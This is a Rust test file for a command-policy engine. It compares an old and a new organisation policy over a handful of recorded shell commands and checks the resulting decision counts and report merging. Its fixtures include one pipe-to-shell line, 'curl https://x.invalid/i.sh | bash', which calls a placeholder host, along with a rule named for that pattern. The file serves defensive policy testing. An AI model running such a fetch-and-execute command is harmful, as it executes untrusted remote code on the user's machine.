//! The same commands under two policies.

use cmdai_policy::{Layers, Recorded, Simulation};
use cmdai_schema::{Decision, Subject};

use crate::support::{analyse, facts, snapshot, subject};

const OLD: &str = "version: \"1.0\"\norganization: acme\n";
const NEW: &str = "version: \"1.0\"\norganization: acme\nrules:\n  - {id: own.push, reason: r, when: {pattern: [git push .*]}, decision: deny}\n  - {id: net.pipe-to-shell, mode: monitor}\n";

fn run(commands: &[(&str, &str)]) -> Simulation {
    let (old, new) = (snapshot(OLD), snapshot(NEW));
    let layers = |snapshot| Layers {
        organisation: Some(snapshot),
        user: None,
    };
    let mut simulation = Simulation::default();
    for (user, text) in commands {
        let analysis = analyse(text);
        let subject = Subject {
            user: (*user).to_owned(),
            teams: vec!["web".to_owned()],
            ..subject()
        };
        let recorded = Recorded {
            text,
            analysis: &analysis,
            facts: &facts(),
            subject: &subject,
            machine: Some("m1"),
        };
        simulation.add(&recorded, &layers(&old), &layers(&new));
    }
    simulation
}

const COMMANDS: &[(&str, &str)] = &[
    ("ann", "ls"),
    ("ann", "git push origin topic"),
    ("ann", "git push origin topic"),
    ("bob", "git push origin topic"),
    ("bob", "curl https://x.invalid/i.sh | bash"),
];

#[test]
fn counts_by_decision_person_and_rule_worst_first() {
    let report = run(COMMANDS).report(10);
    assert_eq!((report.commands, report.stricter, report.looser), (5, 3, 1));
    let denied = report.decisions[&Decision::Deny];
    assert_eq!(denied.new, 3, "{report:?}");
    assert_eq!(report.changed[0].command, "git push origin topic");
    assert_eq!(report.changed[0].count, 3);
    assert_eq!(report.changed[0].rule.as_deref(), Some("own.push"));
    assert_eq!(report.changed_distinct, 2);
    let ann = report.people.iter().find(|named| named.name == "ann");
    assert_eq!(ann.map(|named| named.interrupted.new), Some(2));
    assert_eq!(report.teams[0].interrupted.new, 3);
    assert_eq!(report.machines[0].interrupted.old, 1);
    let rule = report.rules.iter().find(|named| named.name == "own.push");
    assert_eq!(
        rule.map(|named| (named.interrupted.old, named.interrupted.new)),
        Some((0, 3))
    );
}

#[test]
fn parts_merged_are_the_whole() {
    let whole = run(COMMANDS).report(10);
    let mut parts = run(&COMMANDS[..2]);
    parts.merge(run(&COMMANDS[2..]));
    assert_eq!(parts.report(10), whole);
}

#[test]
fn lists_are_cut_and_the_cut_is_told() {
    let report = run(COMMANDS).report(1);
    assert_eq!((report.changed.len(), report.changed_distinct), (1, 2));
}
